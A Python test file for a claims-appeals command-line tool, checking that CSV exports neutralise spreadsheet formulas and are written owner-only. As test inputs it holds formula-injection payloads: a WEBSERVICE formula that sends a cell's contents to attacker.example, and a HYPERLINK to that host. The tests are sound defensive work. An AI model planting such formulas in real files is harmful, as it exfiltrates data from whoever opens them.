"""What the command line writes for people: CSV cells no spreadsheet runs as a formula, and
files only their owner can read."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date
from pathlib import Path

from sqlmodel import Session

from tests.factories import make_claim, make_payer

HOSTILE = '=WEBSERVICE("https://attacker.example/?"&A1)'


def test_denials_csv_neutralises_formulas_in_payer_names(cli, session: Session) -> None:
    payer = make_payer(session, "commercial", HOSTILE)
    make_claim(
        session,
        [{"procedure": "11602", "charge": "100.00", "adjustments": [("CO", "50", "100.00")]}],
        payer=payer,
    )
    session.commit()
    result = cli("denials", "--group-by", "payer", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(cell == "'" + HOSTILE for cell in cells)


def test_history_export_is_written_owner_only(cli, tmp_path: Path) -> None:
    out = tmp_path / "history.csv"
    old = os.umask(0o022)
    try:
        result = cli("history", "export", "--out", out)
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_history_export_neutralises_formulas_and_still_round_trips(
    cli, engine, tmp_path: Path
) -> None:
    from appeals.history import ALL_COLUMNS, import_appeal_history
    from appeals.importer import import_file
    from tests.remits import Line, RemitClaim, write_remittance

    line = Line("11102", "200", adjustments=[("CO", "50", "200")], rarcs=["N115"])
    remit = write_remittance(tmp_path, "n.835", "T-1", date(2026, 8, 4), [RemitClaim("F1", [line])])
    import_file(engine, remit)
    reference = '=HYPERLINK("https://attacker.example/","call")'
    given = tmp_path / "given.csv"
    with given.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(ALL_COLUMNS)
        writer.writerow(
            ["F1", "2026-07-13", "11102", "SUNNY HEALTH PLAN", "1", "2026-08-10", "portal",
             "", "", "", reference, ""]
        )  # fmt: skip
    with Session(engine) as session:
        assert import_appeal_history(session, given, today=date(2026, 11, 20)).recorded == 1
        session.commit()
    out = tmp_path / "exported.csv"
    assert cli("history", "export", "--out", out).exit_code == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["reference"] == "'" + reference
    with Session(engine) as session:  # importing the export again changes nothing
        report = import_appeal_history(session, out, today=date(2026, 11, 20))
        assert (report.recorded, report.already_recorded, report.invalid) == (0, 1, [])
